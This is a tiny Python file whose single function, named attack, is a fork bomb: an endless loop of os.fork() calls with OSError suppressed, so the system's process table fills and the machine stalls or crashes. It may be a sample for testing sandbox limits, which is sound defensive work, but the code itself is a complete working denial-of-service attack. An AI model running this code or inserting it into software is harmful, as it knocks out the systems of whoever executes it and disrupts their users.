import contextlib
import os


def attack(context):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
